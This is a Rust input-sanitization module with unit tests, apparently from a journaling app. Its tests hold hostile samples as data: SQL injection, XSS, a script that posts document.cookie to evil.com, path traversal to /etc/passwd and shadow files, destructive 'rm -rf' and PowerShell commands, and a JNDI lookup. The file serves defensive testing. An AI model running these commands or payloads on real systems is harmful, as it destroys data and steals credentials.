//! Free-text sanitization.
//!
//! Every user-authored string passes through [`sanitize`] before it is stored
//! on a model. The filter removes, it never rewrites: dangerous code points
//! and substrings associated with markup, SQL, path-traversal, shell and
//! template injection are deleted, then the result is trimmed and bounded to
//! the field's maximum length.
//!
//! Removing one pattern can splice two fragments into a new one
//! (`scrscriptipt` becomes `script`), so the rules are applied repeatedly
//! until the text stops changing. Every rule only shortens the text, which
//! makes the loop terminate and makes `sanitize` idempotent.
//!
//! Each pass is linear in the input, but every level of nesting costs one
//! more pass. Input that is still changing after [`MAX_PASSES`] passes is
//! discarded and the field becomes empty.

use once_cell::sync::Lazy;
use regex::Regex;
use tracing::debug;

/// Passes allowed before nested input is discarded.
pub const MAX_PASSES: usize = 8;

/// The kind of free-text field being sanitized.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FieldKind {
    Title,
    Content,
    Tags,
    Category,
    Mood,
    Theme,
}

impl FieldKind {
    /// Maximum length of the sanitized value, in characters.
    pub const fn max_chars(self) -> usize {
        match self {
            FieldKind::Title => 200,
            FieldKind::Content => 256 * 1024,
            FieldKind::Tags => 1000,
            FieldKind::Category => 50,
            FieldKind::Mood => 50,
            FieldKind::Theme => 32,
        }
    }

    /// Whether `\n`, `\r` and `\t` survive sanitization.
    pub const fn allows_line_breaks(self) -> bool {
        matches!(self, FieldKind::Content)
    }
}

/// Removal patterns, applied in order on every pass.
static REMOVALS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        // markup
        r"(?is)<\s*script\b[^>]*>.*?<\s*/\s*script[^>]*>",
        r"<[^<>]*>",
        r"[<>]",
        r"(?i)(?:java|vb)script\s*:",
        r"(?i)data\s*:\s*text/html",
        r"(?i)script",
        r"(?i)on[a-z]+\s*=",
        // sql
        r"(?i)(?:drop|delete|insert)[\s_]*(?:table|from|into|database|index)\b",
        r"(?i)\b(?:drop|delete|insert)\b",
        r"(?i)union\s+(?:all\s+)?select",
        r"(?i)'\s*or\s+'?\w+'?\s*=\s*'?\w+'?",
        r"--",
        // path traversal, plain and percent-encoded
        r"(?i)%(?:25)*(?:2e|2f|5c)",
        r"\.\.",
        r"[/\\]",
        // shell
        r"(?i)\brm\s+-+[rf]+\b|\bdel\s+/?f\b|powershell|cmd\.exe|system32",
        r"`",
        r"\$[({]",
        r";",
        // template
        r"\{\{|\}\}",
    ]
    .iter()
    .map(|pattern| Regex::new(pattern).expect("sanitizer pattern must compile"))
    .collect()
});

/// Code points that never survive sanitization.
///
/// Covers C0/C1 controls and DEL, bidi embedding/override/isolate marks,
/// zero-width characters and, outside multi-line fields, line breaks and the
/// Unicode line/paragraph separators.
fn is_forbidden_char(c: char, multiline: bool) -> bool {
    match c {
        '\n' | '\r' | '\t' | '\u{2028}' | '\u{2029}' => !multiline,
        '\u{200B}'..='\u{200F}' => true,
        '\u{202A}'..='\u{202E}' => true,
        '\u{2066}'..='\u{2069}' => true,
        '\u{061C}' | '\u{2060}' | '\u{FEFF}' => true,
        c => c.is_control(),
    }
}

fn strip(pattern: &Regex, text: String) -> String {
    if pattern.is_match(&text) {
        pattern.replace_all(&text, "").into_owned()
    } else {
        text
    }
}

/// One application of every removal rule, followed by a trim.
fn scrub_pass(text: &str, kind: FieldKind) -> String {
    let multiline = kind.allows_line_breaks();
    let mut out: String = text
        .chars()
        .filter(|c| !is_forbidden_char(*c, multiline))
        .collect();

    for pattern in REMOVALS.iter() {
        out = strip(pattern, out);
    }

    out.trim().to_string()
}

/// Longest prefix of `text` holding at most `max_chars` characters.
fn truncate_chars(text: &str, max_chars: usize) -> &str {
    match text.char_indices().nth(max_chars) {
        Some((byte_index, _)) => &text[..byte_index],
        None => text,
    }
}

/// Sanitize `raw` for storage in a field of the given kind.
///
/// Total: never panics and always returns a value no longer than
/// [`FieldKind::max_chars`]. Oversized input is cut before filtering so the
/// work is bounded by the field's limit.
///
/// # Examples
///
/// ```
/// use sophic_core::sanitize::{sanitize, FieldKind};
///
/// let clean = sanitize("<b>Monday</b> review", FieldKind::Title);
/// assert_eq!(clean, "Monday review");
///
/// let hostile = sanitize("'; DROP TABLE entries; --", FieldKind::Title);
/// assert!(!hostile.contains("DROP") && !hostile.contains(';'));
/// assert_eq!(sanitize(&hostile, FieldKind::Title), hostile);
/// ```
pub fn sanitize(raw: &str, kind: FieldKind) -> String {
    let max = kind.max_chars();
    settle(truncate_chars(raw, max).to_string(), kind, Some(max))
}

/// Apply the removal rules without enforcing the length limit.
///
/// For fields whose length violations must be rejected rather than
/// truncated; the caller checks the length of the result.
pub fn scrub(raw: &str, kind: FieldKind) -> String {
    settle(raw.to_string(), kind, None)
}

/// Run passes until the text stops changing, or give up and return an
/// empty string once [`MAX_PASSES`] is exhausted.
fn settle(mut current: String, kind: FieldKind, max_chars: Option<usize>) -> String {
    for _ in 0..MAX_PASSES {
        let mut next = scrub_pass(&current, kind);
        if let Some(max) = max_chars {
            next = truncate_chars(&next, max).to_string();
        }
        if next == current {
            return next;
        }
        current = next;
    }
    debug!(?kind, "Input still changing after {} passes; discarded", MAX_PASSES);
    String::new()
}

/// True when sanitization would leave `raw` unchanged apart from trimming.
pub fn is_clean(raw: &str, kind: FieldKind) -> bool {
    let trimmed = raw.trim();
    trimmed.chars().count() <= kind.max_chars() && scrub(trimmed, kind) == trimmed
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::{Duration, Instant};

    #[test]
    fn test_plain_text_untouched() {
        assert_eq!(sanitize("Test Entry", FieldKind::Title), "Test Entry");
        assert_eq!(sanitize("café", FieldKind::Title), "café");
        assert_eq!(sanitize("cafe\u{0301}", FieldKind::Title), "cafe\u{0301}");
        assert_eq!(sanitize("日記 — 2024", FieldKind::Title), "日記 — 2024");
    }

    #[test]
    fn test_sql_injection_in_title() {
        let inputs = [
            "'; DROP TABLE JournalEntries; --",
            "' OR '1'='1",
            "'; DELETE FROM Users WHERE 1=1; --",
            "admin'; INSERT INTO Users VALUES('hacker','password'); --",
            "' UNION SELECT * FROM sensitive_data --",
        ];
        for input in inputs {
            let out = sanitize(input, FieldKind::Title);
            for needle in ["DROP TABLE", "DELETE FROM", "INSERT INTO", "UNION SELECT", ";"] {
                assert!(!out.contains(needle), "{:?} survived in {:?}", needle, out);
            }
        }
    }

    #[test]
    fn test_sql_injection_in_content() {
        let content = "
            My journal entry today was great.
            '; DROP TABLE JournalEntries; --
            Just kidding, let's try: ' OR 1=1 --
            Or maybe: '; DELETE FROM Users; --
        ";
        let out = sanitize(content, FieldKind::Content);
        assert!(!out.contains("DROP TABLE"));
        assert!(!out.contains("DELETE FROM"));
        assert!(!out.contains("' OR 1=1"));
        assert!(out.contains("My journal entry today was great."));
        assert!(out.contains('\n'));
    }

    #[test]
    fn test_xss_payloads_in_title() {
        let payloads = [
            "<script>alert('XSS')</script>",
            "<img src=x onerror=alert('XSS')>",
            "javascript:alert('XSS')",
            "<iframe src=\"javascript:alert('XSS')\"></iframe>",
            "<svg onload=alert('XSS')>",
            "<body onload=alert('XSS')>",
            "<input type=\"text\" onkeyup=\"alert('XSS')\">",
        ];
        for payload in payloads {
            let out = sanitize(payload, FieldKind::Title);
            for needle in ["<script", "javascript:", "onerror=", "onload=", "<", ">"] {
                assert!(!out.contains(needle), "{:?} survived in {:?}", needle, out);
            }
        }
    }

    #[test]
    fn test_script_block_removed_with_body() {
        let content = r#"
            <p>Normal content here</p>
            <script>
                fetch('http://evil.com/steal', {
                    method: 'POST',
                    body: JSON.stringify(document.cookie)
                });
            </script>
            <img src='x' onerror='alert("Pwned")'>
        "#;
        let out = sanitize(content, FieldKind::Content);
        assert!(!out.contains("<script"));
        assert!(!out.contains("fetch("));
        assert!(!out.contains("onerror="));
        assert!(out.contains("Normal content here"));
    }

    #[test]
    fn test_path_traversal_in_tags() {
        let inputs = [
            "../../../etc/passwd",
            "..\\..\\..\\windows\\system32\\config\\sam",
            "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "....//....//....//etc/passwd",
            "..%252f..%252f..%252fetc%252fpasswd",
        ];
        for input in inputs {
            let out = sanitize(input, FieldKind::Tags);
            for needle in ["../", "..\\", "%2e%2e", "etc/passwd", "system32", ".."] {
                assert!(!out.contains(needle), "{:?} survived in {:?}", needle, out);
            }
        }
    }

    #[test]
    fn test_command_injection_in_title() {
        let inputs = [
            "test; rm -rf /",
            "test && del /f /s /q C:\\*.*",
            "test | powershell -Command \"Remove-Item -Recurse -Force C:\\\"",
            "test`rm -rf /home/user`",
            "test$(rm -rf /)",
            "test;cat /etc/shadow",
        ];
        for input in inputs {
            let out = sanitize(input, FieldKind::Title);
            for needle in ["rm -rf", "del /f", "powershell", "/etc/shadow", "`", "$(", ";"] {
                assert!(!out.contains(needle), "{:?} survived in {:?}", needle, out);
            }
            assert!(out.starts_with("test"));
        }
    }

    #[test]
    fn test_template_and_expression_delimiters() {
        assert_eq!(sanitize("{{7*7}}", FieldKind::Category), "7*7");
        assert!(!sanitize("${jndi:ldap://evil.com/exploit}", FieldKind::Category).contains('$'));
    }

    #[test]
    fn test_bidi_and_zero_width_removed() {
        let inputs = [
            "test\u{202e}\u{202d}<script>alert('XSS')</script>",
            "test\u{00A0}\u{2028}\u{2029}",
            "test\u{FEFF}",
            "test\u{200B}\u{200C}\u{200D}",
            "\u{2066}test\u{2069}",
        ];
        for input in inputs {
            assert_eq!(sanitize(input, FieldKind::Title), "test", "input {:?}", input);
        }
    }

    #[test]
    fn test_null_bytes_removed_everywhere() {
        let kinds = [
            FieldKind::Title,
            FieldKind::Content,
            FieldKind::Tags,
            FieldKind::Category,
            FieldKind::Mood,
        ];
        for kind in kinds {
            assert_eq!(sanitize("normal\0hidden", kind), "normalhidden");
            assert!(!sanitize("file.txt\0.exe", kind).contains('\0'));
        }
    }

    #[test]
    fn test_line_breaks_only_in_content() {
        assert_eq!(sanitize("one\ntwo", FieldKind::Content), "one\ntwo");
        assert_eq!(sanitize("one\ntwo", FieldKind::Title), "onetwo");
        assert_eq!(sanitize("one\ttwo", FieldKind::Tags), "onetwo");
    }

    #[test]
    fn test_spliced_tokens_removed() {
        assert_eq!(sanitize("scrscriptipt", FieldKind::Title), "");
        assert_eq!(sanitize(".../...", FieldKind::Title), "");
        assert_eq!(sanitize("x DR DROP OP", FieldKind::Title), "x DR  OP");
    }

    #[test]
    fn test_sql_phrases_removed_inside_words() {
        assert_eq!(sanitize("DROP_TABLE users", FieldKind::Title), "users");
        assert_eq!(sanitize("xDROP TABLE users", FieldKind::Title), "x users");
        assert_eq!(sanitize("rowsDELETE FROM t", FieldKind::Title), "rows t");
        assert_eq!(sanitize("INSERTINTO log", FieldKind::Title), "log");
    }

    #[test]
    fn test_nested_input_is_discarded() {
        let depth = 3;
        let shallow = format!("a {}script{} b", "scr".repeat(depth), "ipt".repeat(depth));
        assert_eq!(sanitize(&shallow, FieldKind::Title), "a  b");

        let deep = format!("a {}script{} b", "scr".repeat(20), "ipt".repeat(20));
        assert_eq!(sanitize(&deep, FieldKind::Title), "");
        assert_eq!(scrub(&deep, FieldKind::Category), "");
        assert!(!is_clean(&deep, FieldKind::Content));
    }

    #[test]
    fn test_max_length_nested_content_is_fast() {
        let depth = (FieldKind::Content.max_chars() - 6) / 6;
        let nested = format!("{}script{}", "scr".repeat(depth), "ipt".repeat(depth));
        assert!(nested.chars().count() <= FieldKind::Content.max_chars());

        let started = Instant::now();
        let out = sanitize(&nested, FieldKind::Content);
        assert_eq!(out, "");
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "took {:?}",
            started.elapsed()
        );
    }

    #[test]
    fn test_legitimate_words_survive_keyword_filter() {
        assert_eq!(
            sanitize("I dropped my phone and deleted a note", FieldKind::Title),
            "I dropped my phone and deleted a note"
        );
        // Keywords buried in a longer word are left alone unless followed by
        // a SQL object keyword.
        assert_eq!(sanitize("Backdrop", FieldKind::Title), "Backdrop");
        assert_eq!(sanitize("DRDROPOP", FieldKind::Title), "DRDROPOP");
    }

    #[test]
    fn test_title_truncated() {
        let long = "A".repeat(10_000);
        let out = sanitize(&long, FieldKind::Title);
        assert_eq!(out.chars().count(), FieldKind::Title.max_chars());
        assert!(out.len() < 1000);
    }

    #[test]
    fn test_truncation_respects_char_boundaries() {
        let long = "é".repeat(300);
        let out = sanitize(&long, FieldKind::Title);
        assert_eq!(out.chars().count(), 200);
    }

    #[test]
    fn test_large_content_is_bounded() {
        let large = "X".repeat(1024 * 1024);
        let out = sanitize(&large, FieldKind::Content);
        assert_eq!(out.chars().count(), FieldKind::Content.max_chars());
    }

    #[test]
    fn test_empty_input() {
        assert_eq!(sanitize("", FieldKind::Title), "");
        assert_eq!(sanitize("   ", FieldKind::Mood), "");
    }

    #[test]
    fn test_scrub_does_not_truncate() {
        let long = "a".repeat(60);
        assert_eq!(scrub(&long, FieldKind::Category).len(), 60);
    }

    #[test]
    fn test_is_clean() {
        assert!(is_clean("Valid Category", FieldKind::Category));
        assert!(is_clean("  Padded  ", FieldKind::Category));
        assert!(!is_clean("<script>alert('xss')</script>", FieldKind::Category));
        assert!(!is_clean("'; DROP TABLE Users; --", FieldKind::Category));
        assert!(!is_clean("../../../etc/passwd", FieldKind::Category));
        assert!(!is_clean("{{7*7}}", FieldKind::Category));
        assert!(!is_clean(&"a".repeat(51), FieldKind::Category));
    }
}
